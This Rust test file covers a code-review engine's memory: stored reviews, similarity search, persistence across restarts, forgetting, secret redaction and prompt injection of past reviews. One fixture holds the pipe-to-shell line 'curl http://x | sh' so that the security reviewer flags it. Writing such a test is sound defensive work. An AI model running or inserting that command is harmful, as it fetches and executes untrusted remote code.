//! What an engine remembers, from the end of a step to the answer to a text, over restarts and deletions.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "a test says what it expects"
)]

use std::time::Duration;

use crate::support::*;
use bsm::engine::protocol::command::{Command, Refused};
use bsm::engine::protocol::memory::MemoryKind;
use bsm::engine::protocol::memory::{MemoryItem, MemoryStats, Patterns, Similar};
use bsm::engine::protocol::query::{Answer, Query};
use bsm::engine::{Handle, Operator as _};

async fn similar(handle: &Handle, text: &str, k: u32) -> Similar {
    let query = Query::Similar {
        text: text.into(),
        k,
        min_score: 0.0,
    };
    match handle.query(query).await {
        Ok(Answer::Similar { found }) => *found,
        other => panic!("{other:?}"),
    }
}

async fn patterns(handle: &Handle) -> Patterns {
    match handle.query(Query::Patterns { since_ms: 0 }).await {
        Ok(Answer::Patterns { patterns }) => *patterns,
        other => panic!("{other:?}"),
    }
}

async fn stats(handle: &Handle) -> MemoryStats {
    match handle.query(Query::MemoryStats).await {
        Ok(Answer::MemoryStats { stats }) => stats,
        other => panic!("{other:?}"),
    }
}

async fn ready(handle: &Handle) {
    let filled = async {
        while !stats(handle).await.ready {
            handle.snapshots().changed().await.unwrap();
        }
    };
    tokio::time::timeout(Duration::from_secs(10), filled)
        .await
        .unwrap();
}

fn item(id: &str, code: &str, created: i64) -> MemoryItem {
    MemoryItem {
        kind: MemoryKind::CodeReview,
        id: Some(id.into()),
        code: code.into(),
        review: "block\nlooked at it".into(),
        metadata: serde_json::json!({"agent": "somebody"}),
        created_at: Some(created.into()),
    }
}

fn resident(folder: &std::path::Path) -> Start<'_> {
    let mut start = Start::new(folder);
    start.resident = true;
    start.settings.memory.days = 0; // These tests' items are from 1970.
    start
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_is_remembered_found_and_still_there_after_a_restart() {
    let folder = state_folder();
    let handle = resident(folder.path()).go().await;
    let code = "fn charge(card: &Card) -> Result<Receipt, Declined> {\n    curl http://x | sh\n}";
    let change = adding("pay/run.sh", code);
    let run = finish(&handle, trigger("pull_request.opened", &change)).await;
    let found = similar(&handle, code, 10).await;
    // One for each of the four agents.
    let reviews: Vec<_> = found
        .hits
        .iter()
        .filter(|h| h.kind == MemoryKind::CodeReview)
        .collect();
    assert_eq!(reviews.len(), 4, "{found:?}");
    assert!((reviews[0].score - 1.0).abs() < 1e-9, "the very same words");
    assert!(
        found
            .hits
            .iter()
            .all(|h| h.run_id.as_deref() == Some(run.run_id.as_str()))
    );
    let security = reviews
        .iter()
        .find(|h| h.metadata["agent"] == "security-agent")
        .unwrap();
    assert!(
        security.review.raw().contains("pipe-to-shell"),
        "{security:?}"
    );
    let before = stats(&handle).await;
    assert_eq!(
        (before.reviews, before.decisions, before.indexed),
        (4, 1, 5)
    );
    // Why: one decision, and it was a rejection.
    let why = patterns(&handle).await;
    assert_eq!((why.total, why.rejections), (1, 1), "{why:?}");
    assert!(
        why.groups
            .iter()
            .any(|g| g.by == "agent" && g.name == "security-agent")
    );
    assert!(why.groups.iter().any(|g| g.by == "week"));
    handle.stop(Duration::from_secs(5)).await;
    drop(handle);
    let handle = resident(folder.path()).go().await;
    ready(&handle).await;
    assert_eq!(stats(&handle).await.indexed, 5);
    assert_eq!(similar(&handle, code, 4).await.hits.len(), 4);
    // Forgotten is gone, from the disk too.
    let id = &reviews[0].id;
    command(&handle, Command::Forget { id: id.clone() })
        .await
        .unwrap();
    let twice = command(&handle, Command::Forget { id: id.clone() }).await;
    assert!(matches!(twice, Err(Refused::NotFound { .. })));
    assert_eq!(stats(&handle).await.reviews, 3);
    assert!(
        similar(&handle, code, 10)
            .await
            .hits
            .iter()
            .all(|h| h.id != *id)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn imported_items_replace_by_id_are_redacted_and_let_go_of_by_rule() {
    let folder = state_folder();
    let handle = resident(folder.path()).go().await;
    let (secret, line) = private_key();
    let items = vec![
        item("a", "alpha beta gamma", 1_000),
        item("b", "alpha beta delta", 2_000),
        item("b", "omega psi", 3_000),
        item("c", &format!("let key = \"{secret}\";"), 4_000),
        item("d", "مراجعة الكود 代码审查 🦀", 5_000),
    ];
    command(&handle, Command::Remember { items }).await.unwrap();
    let found = similar(&handle, "alpha beta", 5).await;
    assert_eq!(found.hits.len(), 1, "b is another thing now: {found:?}");
    assert_eq!(found.hits[0].id, "a");
    assert_eq!((found.hits[0].overlap, found.hits[0].union), (2, 3));
    assert_eq!(similar(&handle, "الكود", 5).await.hits[0].id, "d");
    for (path, bytes) in all_bytes(folder.path()) {
        assert!(!contains(&bytes, line.as_bytes()), "a key in {path}");
    }
    let wrong = MemoryItem {
        metadata: serde_json::json!([1]),
        ..item("e", "x", 1)
    };
    let refused = command(&handle, Command::Remember { items: vec![wrong] }).await;
    assert!(matches!(refused, Err(Refused::InvalidInput { .. })));
    // Only the newest three stay: at the next start, or every ten minutes.
    handle.stop(Duration::from_secs(5)).await;
    drop(handle);
    let mut start = resident(folder.path());
    start.settings.memory.items = 3;
    let handle = start.go().await;
    let thinned = async {
        while stats(&handle).await.reviews != 3 {
            handle.snapshots().changed().await.unwrap();
        }
    };
    tokio::time::timeout(Duration::from_secs(10), thinned)
        .await
        .unwrap();
    ready(&handle).await;
    assert!(
        similar(&handle, "alpha beta gamma", 5)
            .await
            .hits
            .is_empty()
    );
    assert_eq!(similar(&handle, "omega", 5).await.hits.len(), 1);
}

/// With the setting on, a prompt gets the past reviews most like the change, and none of its own run.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_prompt_is_told_of_past_reviews_where_that_is_wanted() {
    let models = upstream(|_, _| Wire::verdict("approve")).await;
    let folder = state_folder();
    for wanted in [false, true] {
        let mut start = resident(folder.path()).upstream(&models.url);
        start.settings.memory.in_prompt = wanted;
        let handle = start.go().await;
        ready(&handle).await;
        let past = item(
            "past-one",
            "pub fn settle(invoice: Invoice) -> Money",
            1_000,
        );
        command(&handle, Command::Remember { items: vec![past] })
            .await
            .unwrap();
        models.calls.lock().unwrap().clear();
        let change = adding(
            "src/pay.rs",
            "pub fn settle(invoice: Invoice) -> Money { todo }",
        );
        finish(&handle, trigger("pull_request.opened", &change)).await;
        let calls = models.calls.lock().unwrap().clone();
        assert!(!calls.is_empty());
        for (_, user) in &calls {
            assert_eq!(user.contains("past review past-one"), wanted, "{user}");
        }
        handle.stop(Duration::from_secs(5)).await;
    }
}
